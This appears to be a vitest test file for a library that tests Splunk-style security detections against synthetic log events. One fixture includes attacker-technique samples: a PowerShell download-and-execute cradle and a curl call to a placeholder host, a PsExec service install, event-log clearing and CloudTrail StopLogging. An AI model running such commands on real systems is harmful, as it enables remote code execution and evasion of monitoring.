import { detection, auditd, cim, cloudtrail, sysmon, windowsEvent, logCleared, powershell, serviceInstalled, windowsSecurity } from "speleo/testing";
import { expect, test } from "vitest";
test("example 0", () => {
const bruteForce = detection({
  name: "Brute Force",
  search: "`security` EventCode=4625 | stats count by IpAddress | where count >= 3",
  macros: { security: "source=XmlWinEventLog:Security" },
});
const failures = ["ann", "bob", "eve"].map((user) => windowsSecurity(4625, { TargetUserName: user, IpAddress: "203.0.113.9" }));

expect(bruteForce).toFireOn(failures);
expect(bruteForce).toFireOn(failures, { count: 1, fields: { IpAddress: "203.0.113.*" }, rows: [{ count: 3 }] });
expect(bruteForce).not.toFireOn(failures.slice(1));
expect(failures).toMatchDetection(bruteForce);

});
test("example 1", () => {
const bruteForce = detection({
  name: "Brute Force",
  search: "`security` EventCode=4625 | stats count by IpAddress | where count >= 3",
  macros: { security: "source=XmlWinEventLog:Security" },
});
const failures = ["ann", "bob", "eve"].map((user) => windowsSecurity(4625, { TargetUserName: user, IpAddress: "203.0.113.9" }));


expect(bruteForce).toFireOn(failures.slice(1), { count: 1 });

});
test("example 2", () => {
const events = [{ user: "ann", bytes: 10 }, { user: "bob", bytes: 20 }, { user: "ann", bytes: 30 }];

expect("* | stats sum(bytes) as total by user").toReturnRows([{ user: "ann", total: 40 }], { events });
expect("* | stats count by user").toReturnRows([{ user: "bob", count: 1 }, { user: "ann", count: 2 }], { events, exact: true });
expect("user=eve").toReturnRows([], { events });
expect("index=main | stats count by user").toParseAsSpl();

});
test("example 3", () => {
const events = [
  sysmon(1, { Image: "C:\\Windows\\System32\\cmd.exe", CommandLine: "cmd /c whoami" }, { host: "ws7", time: "2026-02-03T04:05:06Z" }),
  windowsSecurity(4698, { TaskName: "\\Updater" }),
  powershell("IEX (New-Object Net.WebClient).DownloadString('http://x.example')"),
  serviceInstalled({ ServiceName: "psexesvc", ImagePath: "%SystemRoot%\\psexesvc.exe" }),
  logCleared("Application"),
  cloudtrail({ eventName: "StopLogging", eventSource: "cloudtrail.amazonaws.com", userIdentity: { userName: "eve" } }),
  auditd("EXECVE", { a0: "curl", a1: "http://x.example" }),
  cim.process({ process: "certutil -f", user: "ann" }),
  windowsEvent({ id: 1006, channel: "Example/Operational", provider: "Example" }, { Subject: "CN=ann" }),
];

expect("* | stats count by sourcetype").toReturnRows([{ sourcetype: "XmlWinEventLog", count: 6 }], { events });

});
test("example 4", () => {
const recent = detection({ search: '* earliest=-1h | eval hour=strftime(_time, "%H") | table hour', timeZone: "Europe/Helsinki" });

expect(recent).toFireOn([{ _time: 1768478400 }], { fields: { hour: 14 } });
expect(recent).not.toFireOn([{ _time: 1768478400 }], { now: "2026-01-16T00:00:00Z" });

});